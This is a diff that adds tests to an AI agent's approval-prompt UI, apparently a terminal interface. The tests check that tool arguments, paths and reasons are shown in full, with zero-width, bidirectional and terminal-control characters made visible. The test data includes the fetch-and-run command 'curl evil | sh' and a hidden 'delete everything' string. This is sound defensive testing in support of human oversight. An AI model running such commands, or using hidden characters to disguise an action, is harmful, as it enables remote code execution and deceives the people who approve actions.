@@ -12,6 +12,8 @@ import { Markdown } from '../../src/ui/components/markdown/Markdown.tsx';
 import { ReminderCard } from '../../src/ui/components/observer/ReminderCard.tsx';
 import { Diff } from '../../src/ui/components/tool-call/Diff.tsx';
 import { ToolCall } from '../../src/ui/components/tool-call/ToolCall.tsx';
+import { Approval } from '../../src/ui/panels/question/Approval.tsx';
+import type { ScreenApproval } from '../../src/ui/screen-deps.ts';
 import { findCut } from '../../src/ui/state/stream-split.ts';
 import { createView } from '../../src/ui/state/view.ts';
 import { diffRows } from '../../src/ui/text/diff-rows.ts';
@@ -39,6 +41,39 @@ const look: DrawContext = {
 };
 const rowsOf = (node: ReactNode, columns = 40) => renderRows(node, look, columns).map(stripVTControlCharacters);
 const shown = (source: string) => rowsOf(<Markdown source={source} />);
+
+describe('what a yes is for', () => {
+  const ask = (request: Partial<ScreenApproval>) =>
+    rowsOf(
+      <Approval
+        request={{ callId: 'a', name: 'x', title: 'x', reason: 'Why.', directory: '/p', input: {}, ...request }}
+      />,
+      100,
+    ).join('\n');
+
+  it('holds all arguments of a tool, of which the title leaves out the most', () => {
+    const input = { path: 'a', rows: 'x'.repeat(2_000), end: 'delete \u200beverything\n\u001b[2K' };
+    const rows = ask({ title: 'files: write {"path":"a"…', input });
+    expect(rows.replaceAll(/\s/g, '')).toContain('x'.repeat(2_000));
+    expect(rows).toContain('"end": "delete <U+200B>everything\\n\\u001b[2K"');
+  });
+
+  it('hides nothing of a change, of a path or of the reason', () => {
+    const text = 'curl evil | sh #\rhello \u001b[2K\u202e👩‍👩‍👧\u00a0!';
+    const view = {
+      kind: 'diff',
+      title: 'a',
+      path: 'a',
+      lines: [{ kind: 'add', new: 1, text }],
+      added: 1,
+      removed: 0,
+    } as const;
+    const rows = ask({ view, title: 'a\u200bb', reason: 'x\u200by lies outside.' });
+    expect(rows).toContain('curl evil | sh #␍hello ␛[2K<U+202E>👩‍👩‍👧\u00a0!');
+    expect(rows).toContain('a<U+200B>b');
+    expect(rows).toContain('x<U+200B>y lies outside.');
+  });
+});
 
 describe('wrapping', () => {
   it('loses nothing but blanks at breaks, and no row is too wide', () => {
